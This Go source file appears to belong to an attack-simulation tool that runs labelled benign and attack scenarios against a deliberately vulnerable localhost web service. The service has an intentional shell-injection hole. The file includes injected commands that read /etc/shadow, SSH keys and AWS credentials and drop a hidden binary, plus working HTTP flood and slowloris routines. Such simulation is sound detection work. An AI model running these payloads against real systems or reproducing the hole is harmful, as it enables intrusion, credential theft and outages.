// SPDX-License-Identifier: Apache-2.0

package action

import (
	"bufio"
	"errors"
	"fmt"
	"html"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"net/url"
	"sync"
	"sync/atomic"
	"time"
)

// serviceAddress is where the toy web service listens.
const serviceAddress = "127.0.0.1:8080"

// webActions are about a small web service, which whoever can reach it can make run commands.
func webActions() []*Action {
	rate := func(value int) Parameter { return numeric("rate", "requests a second", value, 1, 5000) }
	long := func(value int) Parameter { return numeric("seconds", "how long", value, 1, 600) }
	served := Needs{Peer: "web_service"}
	return []*Action{
		{
			Name: "web_service", Role: Benign,
			Description: "A web service with pages, and a form that pings an address and puts what was typed into a shell.",
			Parameters:  []Parameter{long(600)}, Needs: Needs{Programs: servers()}, act: webService,
		}, {
			Name: "browse", Role: Benign, Description: "Clients read pages of the web service, some of which do not exist.",
			Parameters: []Parameter{rate(20), long(10)}, Needs: served, act: browse,
		}, {
			Name: "ping_form", Role: Benign, Description: "Clients use the form as it is meant, a few times.",
			Parameters: []Parameter{count("how often", 3, 1, 100)}, Needs: served,
			act: func(s *scene) error {
				return times(s.number("count"), func(int) error { return submit("127.0.0.1") })
			},
		}, {
			Name: "exploit_form", Role: Attack, Techniques: []string{"T1190", "T1059.004"},
			Description: "Commands are typed into the form behind an address.",
			Parameters:  []Parameter{choice("commands", "what for", "identify", "look_around", "steal", "drop")}, Needs: served,
			act: func(s *scene) error { return submit("127.0.0.1; " + injections()[s.Values["commands"]]) },
		}, {
			Name: "http_flood", Role: Attack, Techniques: []string{"T1499.002"},
			Description: "Requests are sent to the web service as fast as it answers, over many connections.",
			Parameters:  []Parameter{count("connections", 64, 1, 512), long(8)}, Needs: served, act: flood,
		}, {
			Name: "slowloris", Role: Attack, Techniques: []string{"T1499.002"},
			Description: "Many requests to the web service are begun and never ended.",
			Parameters:  []Parameter{count("connections", 200, 1, 2000), long(8)}, Needs: served, act: slowloris,
		},
	}
}

// injections are what the form is made to run, by what they are for.
func injections() map[string]string {
	return map[string]string{
		"identify":    "id; whoami; uname -a",
		"look_around": "ls -la / /home /etc; cat /etc/passwd; ps aux || true; cat /proc/version; df",
		"steal":       "cat /etc/shadow /root/.ssh/id_rsa /root/.aws/credentials; env",
		"drop":        "cat /bin/true >/tmp/.update; chmod +x /tmp/.update; /tmp/.update",
	}
}

// webService answers until its time is over. The form's handler is the hole; the shell's parent is called nginx, as the
// worker of a server that was broken into would be.
func webService(s *scene) error {
	mux := http.NewServeMux()
	page := func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" && len(r.URL.Path) > 12 {
			http.NotFound(w, r)
			return
		}
		_, _ = fmt.Fprintf(w, "<h1>%s</h1>%0*d", html.EscapeString(r.URL.Path), 2000+rand.IntN(6000), 0)
	}
	mux.HandleFunc("/", page)
	mux.HandleFunc("/ping", func(w http.ResponseWriter, r *http.Request) {
		if err := s.below("nginx", "echo pinging "+r.FormValue("host")); err != nil {
			http.Error(w, err.Error(), http.StatusInternalServerError)
		}
	})
	listener, err := net.Listen("tcp", serviceAddress)
	if err != nil {
		return err
	}
	server := &http.Server{Handler: mux} //nolint:gosec // without a timeout, so that slow requests can use it up
	time.AfterFunc(s.seconds("seconds"), func() { _ = server.Close() })
	s.effect()
	if err := server.Serve(listener); !errors.Is(err, http.ErrServerClosed) {
		return err
	}
	return nil
}

// submit fills the form in. The service may have been started just now.
func submit(host string) error {
	var err error
	for range 20 {
		var answer *http.Response
		if answer, err = http.PostForm("http://"+serviceAddress+"/ping", url.Values{"host": {host}}); err == nil {
			return answer.Body.Close()
		}
		time.Sleep(100 * time.Millisecond)
	}
	return err
}

func browse(s *scene) error {
	pages := []string{"/", "/index", "/cart", "/search", "/a-page-that-is-not-there"}
	end := time.Now().Add(s.seconds("seconds"))
	var failed error
	for pause := time.Second / time.Duration(s.number("rate")); time.Now().Before(end); time.Sleep(rand.N(2 * pause)) {
		failed = get(pages[rand.IntN(len(pages))])
	}
	return failed
}

func get(page string) error {
	answer, err := http.Get("http://" + serviceAddress + page)
	if err != nil {
		return err
	}
	_, err = io.Copy(io.Discard, answer.Body)
	return errors.Join(err, answer.Body.Close())
}

func flood(s *scene) error {
	end := time.Now().Add(s.seconds("seconds"))
	client := &http.Client{Transport: &http.Transport{MaxIdleConnsPerHost: s.number("count")}, Timeout: 5 * time.Second}
	var wg sync.WaitGroup
	var answers atomic.Int64
	for range s.number("count") {
		wg.Go(func() {
			for time.Now().Before(end) {
				answer, err := client.Get("http://" + serviceAddress + "/")
				if err != nil {
					time.Sleep(10 * time.Millisecond) // refused: the flood works
					continue
				}
				_, _ = io.Copy(io.Discard, answer.Body)
				_ = answer.Body.Close()
				answers.Add(1)
			}
		})
	}
	wg.Wait()
	if answers.Load() == 0 {
		return errors.New("the web service did not answer")
	}
	return nil
}

func slowloris(s *scene) error {
	var connections []net.Conn
	for range s.number("count") {
		c, err := dial(serviceAddress)
		if err != nil {
			return err
		}
		defer func() { _ = c.Close() }()
		connections = append(connections, c)
	}
	s.effect()
	end := time.Now().Add(s.seconds("seconds"))
	for first := true; time.Now().Before(end); first = false {
		for _, c := range connections {
			w := bufio.NewWriter(c)
			if first {
				_, _ = w.WriteString("GET / HTTP/1.1\r\nHost: toy\r\n")
			}
			_, _ = fmt.Fprintf(w, "X-%d: 1\r\n", rand.IntN(1000))
			_ = w.Flush()
		}
		time.Sleep(time.Second)
	}
	return nil
}
